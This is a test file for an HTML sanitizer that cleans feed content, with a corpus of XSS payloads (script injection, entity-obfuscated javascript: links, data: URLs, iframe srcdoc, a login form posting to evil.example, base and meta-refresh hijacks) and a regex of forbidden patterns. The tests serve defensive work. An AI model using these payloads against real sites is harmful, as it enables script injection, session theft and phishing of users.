import { describe, expect, it } from 'vitest';
import { htmlToText, sanitizeHtml, stripBidiControls, textToHtml } from '../../src/ingest/sanitize.ts';

const BASE = 'https://blog.example.com/posts/launch.html';

/** Things that must never survive, whatever the input looked like. */
const FORBIDDEN =
  /<script|<style|<iframe|<object|<embed|<svg|<math|<form|<input|<button|<textarea|<base|<meta|<link|javascript:|vbscript:|data:|\son\w+\s*=|\sstyle\s*=|\sclass\s*=|\sid\s*=|\starget\s*=|srcset/i;

/** An XSS corpus: classic payloads plus the obfuscations real filters have missed. */
const XSS: [string, string][] = [
  ['script tag', '<p>hi</p><script>alert(1)</script>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['img onerror', '<img src="x.png" onerror="alert(1)">'],
  ['img onerror without src', '<img src=x onerror=alert(1)//>'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['mixed-case javascript: link', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['tab entity inside javascript:', '<a href="java&#x09;script:alert(1)">x</a>'],
  ['newline entity inside javascript:', '<a href="java&#10;script:alert(1)">x</a>'],
  ['raw newline inside javascript:', '<a href="java\nscript:alert(1)">x</a>'],
  ['leading whitespace before javascript:', '<a href="  javascript:alert(1)">x</a>'],
  [
    'decimal entities for javascript:',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ],
  ['named entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object and embed', '<object data="x.swf"><embed src="x.swf"></object>'],
  ['form with inputs', '<form action="https://evil.example/"><input name="pw"><button>Log in</button></form>'],
  ['position:fixed overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Click</div>'],
  ['display:none cloaking', '<p style="display:none">hidden</p>'],
  ['style element', '<style>body{display:none}</style><p>x</p>'],
  ['svg onload', '<svg onload="alert(1)"><circle r="1"/></svg>'],
  ['svg with script inside', '<svg><script>alert(1)</script></svg>'],
  ['math with link', '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'],
  ['event handler on a paragraph', '<p onmouseover="alert(1)">x</p>'],
  ['unclosed tags', '<p><b>bold<i>both</p><div>'],
  ['split script tag', '<scr<script>ipt>alert(1)</script>'],
  ['attribute breakout', '<a href="https://x.example/" title=""><script>alert(1)</script>">x</a>'],
  [
    'base and meta refresh',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  ],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['class and id hooks', '<p class="modal" id="login">x</p>'],
  ['srcset smuggling', '<img src="a.png" srcset="javascript:alert(1) 1x">'],
  ['target without rel', '<a href="https://x.example/" target="_blank">x</a>'],
];

describe('sanitizeHtml', () => {
  it.each(XSS)('when given %s, then nothing executable or hijacking survives', (_name, html) => {
    expect(sanitizeHtml(html, BASE)).not.toMatch(FORBIDDEN);
  });

  it('when a script is removed, then its text goes with it', () => {
    expect(sanitizeHtml('<p>hi</p><script>alert(1)</script>', BASE)).toBe('<p>hi</p>');
  });

  it('when an image has onerror, then the image stays without the handler', () => {
    expect(sanitizeHtml('<img src="x.png" onerror="alert(1)">', BASE)).toBe(
      '<img loading="lazy" src="https://blog.example.com/posts/x.png" />',
    );
  });

  it('when a link is javascript: in disguise, then the href is dropped but the text kept', () => {
    expect(sanitizeHtml('<a href="java&#x09;script:alert(1)">x</a>', BASE)).toBe(
      '<a rel="noopener nofollow ugc">x</a>',
    );
  });

  it('when a link is relative, then it is made absolute and gets rel', () => {
    expect(sanitizeHtml('<a href="../about?x=1#team" target="_blank">About</a>', BASE)).toBe(
      '<a rel="noopener nofollow ugc" href="https://blog.example.com/about?x=1#team">About</a>',
    );
  });

  it('when URLs are protocol-relative or mailto, then they are resolved or kept', () => {
    const html = sanitizeHtml('<img src="//cdn.example.com/a.png"><a href="mailto:tips@example.com">tips</a>', BASE);
    expect(html).toContain('src="https://cdn.example.com/a.png"');
    expect(html).toContain('href="mailto:tips@example.com"');
  });

  it('when there is no base, then relative URLs are dropped rather than guessed', () => {
    expect(sanitizeHtml('<a href="/x">x</a><img src="y.png">', null)).toBe('<a rel="noopener nofollow ugc">x</a>');
  });

  it('when content hides or overlays, then the style goes and the text shows', () => {
    expect(sanitizeHtml('<p style="display:none">hidden</p>', BASE)).toBe('<p>hidden</p>');
  });

  it('when tags are left open, then the output is balanced', () => {
    expect(sanitizeHtml('<p><b>bold<i>both</p>', BASE)).toBe('<p><b>bold<i>both</i></b></p>');
  });

  it('when a form is embedded, then its widgets and their labels vanish', () => {
    expect(sanitizeHtml('<p>a</p><form><input name="pw"><button>Log in</button></form>', BASE)).toBe('<p>a</p>');
  });

  it('when an image is a 1×1 tracking pixel, then it is dropped', () => {
    expect(sanitizeHtml('<p>x<img src="https://feeds.example.com/~r/1" width="1" height="1"></p>', BASE)).toBe(
      '<p>x</p>',
    );
  });

  it('when headings come from a feed, then they are demoted below the page headings', () => {
    expect(sanitizeHtml('<h1>A</h1><h2>B</h2><h6>C</h6>', BASE)).toBe('<h3>A</h3><h4>B</h4><h6>C</h6>');
  });

  it('when the allow-listed structure is used, then it is kept', () => {
    const html =
      '<blockquote><p><em>a</em> <strong>b</strong> <code>c</code></p></blockquote><ul><li>d</li></ul><table><tr><td>e</td></tr></table><figure><figcaption>f</figcaption></figure><hr /><sup>1</sup><abbr title="x">g</abbr><dl><dt>h</dt><dd>i</dd></dl>';
    expect(sanitizeHtml(html, BASE)).toBe(html);
  });
});

describe('htmlToText', () => {
  it('when blocks follow each other, then they become paragraphs separated by blank lines', () => {
    expect(htmlToText('<h2>Title</h2><p>One</p><div>Two</div>Three')).toBe('Title\n\nOne\n\nTwo\n\nThree');
  });

  it('when entities and line breaks appear, then entities are decoded and <br> is a newline', () => {
    expect(htmlToText('<p>AT&amp;T &lt;3&nbsp;&#8220;quotes&#8221;<br>next line</p>')).toBe(
      'AT&T <3 “quotes”\nnext line',
    );
  });

  it('when there are lists, then items are lines with bullets or numbers', () => {
    expect(htmlToText('<p>Steps:</p><ol><li>fetch</li><li>parse</li></ol><ul><li>a</li></ul>')).toBe(
      'Steps:\n\n1. fetch\n2. parse\n\n- a',
    );
  });

  it('when there is a table, then it becomes markdown rows with a header separator', () => {
    const html =
      '<table><thead><tr><th>Model</th><th>MMLU</th></tr></thead><tbody><tr><td>A</td><td>86.4%</td></tr><tr><td>B | C</td><td><p>70</p></td></tr></tbody></table>';
    expect(htmlToText(`<p>Results:</p>${html}<p>Done.</p>`)).toBe(
      'Results:\n\n| Model | MMLU |\n|---|---|\n| A | 86.4% |\n| B \\| C | 70 |\n\nDone.',
    );
  });

  it('when rows are ragged, then they are padded to the widest row', () => {
    expect(htmlToText('<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>')).toBe(
      '| a | b |\n|---|---|\n| c | |',
    );
  });

  it('when scripts, styles and forms are present, then their text is not content', () => {
    expect(htmlToText('<p>Keep</p><script>var x = 1;</script><style>p{}</style><form><button>Go</button></form>')).toBe(
      'Keep',
    );
  });

  it('when bidi override characters are present, then they are removed', () => {
    expect(htmlToText('<p>safe\u202Etxt.exe</p>')).toBe('safetxt.exe');
  });

  it('when bidi embeddings, isolates or marks are present, then text and HTML lose them all (comments strip the same set)', () => {
    const every = '\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u200E\u200F';
    expect(htmlToText(`<p>a${every}b</p>`)).toBe('ab');
    expect(sanitizeHtml(`<p>a${every}b</p>`, BASE)).toBe('<p>ab</p>');
    expect(stripBidiControls(`x${every}y\u200Dz`)).toBe('xy\u200Dz'); // zero-width joiner is not a bidi control: emoji need it
  });
});

describe('textToHtml', () => {
  it('when plain text has markup characters and paragraphs, then they are escaped and kept', () => {
    expect(textToHtml('a < b & c\n\nnext\nline')).toBe('<p>a &lt; b &amp; c</p><p>next<br>line</p>');
  });
});
